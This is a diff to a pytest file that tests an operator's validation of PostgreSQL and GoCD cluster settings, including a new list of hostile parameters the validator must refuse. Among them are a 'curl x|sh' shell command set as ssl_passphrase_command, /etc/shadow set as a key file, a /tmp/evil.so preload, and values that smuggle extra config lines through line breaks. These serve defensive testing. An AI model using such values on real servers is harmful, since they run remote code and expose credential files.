@@ -80,9 +80,11 @@ def test_existing_claim_alone_is_valid(body: Body) -> None:
     assert cluster.spec.shared_storage.existing_claim == "rwx"
 
 
+Case = tuple[str, dict[str, Any], str, str]
+
 # Each case: a patch to the spec (or the whole body), the field path the error must name, and a
 # fragment of what it must say is allowed or wrong.
-INVALID: list[tuple[str, dict[str, Any], str, str]] = [
+INVALID: list[Case] = [
     ("unknown top field", {"spec": {"gocdd": {}}}, "spec.gocdd", "unknown field (allowed: gocd"),
     ("unknown gocd field", {"spec": {"gocd": {"imag": "x"}}}, "spec.gocd.imag", "allowed: image"),
     (
@@ -308,19 +310,19 @@ INVALID: list[tuple[str, dict[str, Any], str, str]] = [
     (
         "owned parameter",
         {"spec": {"postgres": {"parameters": {"archive_command": "cp %p /x"}}}},
-        "spec.postgres.parameters",
+        "spec.postgres.parameters.archive_command",
         "managed by the operator",
     ),
     (
         "bad parameter name",
         {"spec": {"postgres": {"parameters": {"max connections": "5"}}}},
-        "spec.postgres.parameters",
+        "spec.postgres.parameters.max connections",
         "not a postgresql.conf parameter",
     ),
     (
         "parameter with newline",
         {"spec": {"postgres": {"parameters": {"work_mem": "4MB\narchive_mode = off"}}}},
-        "spec.postgres.parameters",
+        "spec.postgres.parameters.work_mem",
         "line break",
     ),
     (
@@ -366,6 +368,132 @@ INVALID: list[tuple[str, dict[str, Any], str, str]] = [
 ]
 
 
+def _parameter(name: str, value: str) -> dict[str, Any]:
+    return {"spec": {"postgres": {"parameters": {name: value}}}}
+
+
+def _parameter_case(case: str, name: str, value: str, fragment: str) -> Case:
+    return (case, _parameter(name, value), f"spec.postgres.parameters.{name}", fragment)
+
+
+# Hostile parameters, huge numbers and strange encodings (issue #13): each must be refused with a
+# message naming the field and saying what is allowed.
+HOSTILE: list[Case] = [
+    _parameter_case(
+        "passphrase command", "ssl_passphrase_command", "sh -c 'curl x|sh'", "runs a shell"
+    ),
+    _parameter_case("ssl key file", "ssl_key_file", "/etc/shadow", "TLS settings"),
+    _parameter_case("ssl on", "ssl", "on", "refused"),
+    _parameter_case("library path", "dynamic_library_path", "/tmp", "load libraries"),
+    _parameter_case("session preload", "session_preload_libraries", "evil", "shared libraries"),
+    _parameter_case("local preload", "local_preload_libraries", "$libdir/x", "shared libraries"),
+    _parameter_case(
+        "shared preload unknown",
+        "shared_preload_libraries",
+        "pg_stat_statements, /tmp/evil.so",
+        "allowed: auto_explain, pg_prewarm, pg_stat_statements",
+    ),
+    _parameter_case("archive library", "archive_library", "basic_archive", "managed by"),
+    _parameter_case("apply delay", "recovery_min_apply_delay", "1h", "delayed standby"),
+    _parameter_case("jit provider", "jit_provider", "/tmp/x", "shared library"),
+    _parameter_case("fsync off", "fsync", "off", "corrupts"),
+    _parameter_case("user namespace", "db_user_namespace", "on", "authenticate"),
+    _parameter_case("unknown name", "max_conections", "100", "unknown parameter"),
+    _parameter_case("mixed case owned", "Archive_Command", "x", "managed by"),
+    _parameter_case("bool typo", "autovacuum", "maybe", "on or off"),
+    _parameter_case("integer word", "max_connections", "lots", "an integer from 1 to 262143"),
+    _parameter_case("integer too big", "max_connections", "1000000", "out of range"),
+    _parameter_case("memory unit case", "work_mem", "64mb", "units are case-sensitive"),
+    _parameter_case("memory beyond int", "shared_buffers", "99999999999TB", "out of range"),
+    _parameter_case("memory exponent", "work_mem", "1e999999", "out of range"),
+    _parameter_case("unit where none", "max_connections", "100ms", "takes none"),
+    _parameter_case("time unit on memory", "work_mem", "5min", "not valid here"),
+    _parameter_case("real not number", "random_page_cost", "fast", "not a number"),
+    _parameter_case("real out of range", "checkpoint_completion_target", "2.5", "from 0 to 1"),
+    _parameter_case("enum value", "log_statement", "everything", "none, ddl, mod, all"),
+    _parameter_case("nul byte", "work_mem", "4MB\x00", "NUL"),
+    _parameter_case("carriage return", "search_path", "x\rarchive_mode=off", "line break"),
+    _parameter_case("huge value", "search_path", "x" * 5000, "longer than 4096"),
+    _parameter_case("unicode name", "wörk_mem", "1", "not a postgresql.conf"),
+    _parameter_case(
+        "removed in the image's version", "old_snapshot_threshold", "5", "removed in 17"
+    ),
+    (
+        "newer than the image's version",
+        {"spec": {"postgres": {"image": "postgres:13", "parameters": {"recovery_prefetch": "on"}}}},
+        "spec.postgres.parameters.recovery_prefetch",
+        "not a parameter of PostgreSQL 13 (added in 15)",
+    ),
+    (
+        "synchronous off",
+        {"spec": {"postgres": {"synchronous": True, "parameters": {"synchronous_commit": "off"}}}},
+        "spec.postgres.parameters.synchronous_commit",
+        "allowed: on, remote_write, remote_apply",
+    ),
+    (
+        "lag beyond int64",
+        {"spec": {"failover": {"maxLagBytes": 2**64}}},
+        "spec.failover.maxLagBytes",
+        "less than or equal to 9223372036854775807",
+    ),
+    (
+        "seconds huge",
+        {"spec": {"failover": {"cooldownSeconds": 10**30}}},
+        "spec.failover.cooldownSeconds",
+        "less than or equal to 86400",
+    ),
+    (
+        "seconds float",
+        {"spec": {"failover": {"primaryUnavailableSeconds": 12.5}}},
+        "spec.failover.primaryUnavailableSeconds",
+        "integer",
+    ),
+    (
+        "storage exponent",
+        {"spec": {"postgres": {"storage": {"size": "1e999999"}}}},
+        "spec.postgres.storage.size",
+        "out of range",
+    ),
+    (
+        "storage exabytes",
+        {"spec": {"postgres": {"storage": {"size": "8Ei"}}}},
+        "spec.postgres.storage.size",
+        "allowed: 1Mi to 1Pi",
+    ),
+    (
+        "storage millibytes",
+        {"spec": {"gocd": {"storage": {"size": "1500m"}}}},
+        "spec.gocd.storage.size",
+        "whole number of bytes",
+    ),
+    (
+        "storage tiny",
+        {"spec": {"sharedStorage": {"size": "1Ki"}}},
+        "spec.sharedStorage.size",
+        "allowed: 1Mi to 1Pi",
+    ),
+    (
+        "memory limit overflow",
+        {"spec": {"postgres": {"resources": {"limits": {"memory": "99999Ei"}}}}},
+        "spec.postgres.resources.limits.memory",
+        "out of range",
+    ),
+    (
+        "cpu below a milli",
+        {"spec": {"gocd": {"resources": {"requests": {"cpu": "0.0001"}}}}},
+        "spec.gocd.resources.requests.cpu",
+        "smallest quantity",
+    ),
+    (
+        "unicode digits in size",
+        {"spec": {"postgres": {"storage": {"size": "\u0661\u0660Gi"}}}},
+        "spec.postgres.storage.size",
+        "does not match",
+    ),
+]
+INVALID += HOSTILE
+
+
 def _apply(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
     result = dict(base)
     for key, value in patch.items():
@@ -393,7 +521,66 @@ def test_invalid_resource_names_the_field(
 
 
 def test_there_are_at_least_thirty_distinct_invalid_cases() -> None:
-    assert len({case for case, *_ in INVALID}) >= 30
+    assert len({case for case, *_ in INVALID}) == len(INVALID) >= 30
+    assert len(HOSTILE) >= 20
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("work_mem", "64MB"),
+        ("work_mem", "1.5GB"),
+        ("shared_buffers", "16384"),
+        ("statement_timeout", "5min"),
+        ("deadlock_timeout", "1 s"),
+        ("wal_buffers", "-1"),
+        ("random_page_cost", "1.1"),
+        ("autovacuum", "ON"),
+        ("jit", "false"),
+        ("log_statement", "DDL"),
+        ("default_transaction_isolation", "repeatable read"),
+        ("shared_preload_libraries", "pg_stat_statements, auto_explain"),
+        ("auto_explain.log_min_duration", "5s"),
+        ("search_path", "'$user', public"),
+        ("synchronous_commit", "remote_apply"),
+    ],
+)
+def test_well_typed_parameters_are_accepted(body: Body, name: str, value: str) -> None:
+    cluster = parse_cluster(body({"postgres": {"parameters": {name: value}, "synchronous": True}}))
+    assert cluster.spec.postgres.parameters == {name: value}
+
+
+def test_every_bad_parameter_is_reported_on_its_own_line(body: Body) -> None:
+    parameters = {"fsync": "off", "work_mem": "lots", "ssl_cert_file": "/x", "max_connections": "9"}
+    with pytest.raises(SpecError) as excinfo:
+        parse_cluster(body({"postgres": {"parameters": parameters}}))
+    assert [p.path for p in excinfo.value.problems] == [
+        "spec.postgres.parameters.fsync",
+        "spec.postgres.parameters.work_mem",
+        "spec.postgres.parameters.ssl_cert_file",
+    ]
+
+
+def test_version_ranges_apply_only_when_the_tag_says_the_version(body: Body) -> None:
+    image = "registry.example/postgres@sha256:" + "a" * 64
+    parameters = {"old_snapshot_threshold": "5", "transaction_timeout": "1min"}
+    cluster = parse_cluster(body({"postgres": {"image": image, "parameters": parameters}}))
+    assert cluster.spec.postgres.parameters == parameters
+    with pytest.raises(SpecError, match="transaction_timeout: not a parameter of PostgreSQL 16"):
+        parse_cluster(body({"postgres": {"image": "postgres:16", "parameters": parameters}}))
+
+
+def test_quantities_at_the_bounds_are_accepted(body: Body) -> None:
+    cluster = parse_cluster(
+        body(
+            {
+                "postgres": {"storage": {"size": "1Pi"}},
+                "gocd": {"storage": {"size": "1Mi"}, "resources": {"limits": {"cpu": "1m"}}},
+                "failover": {"maxLagBytes": 2**63 - 1},
+            }
+        )
+    )
+    assert cluster.spec.failover.max_lag_bytes == 2**63 - 1
 
 
 def test_every_problem_is_reported_at_once(body: Body) -> None:
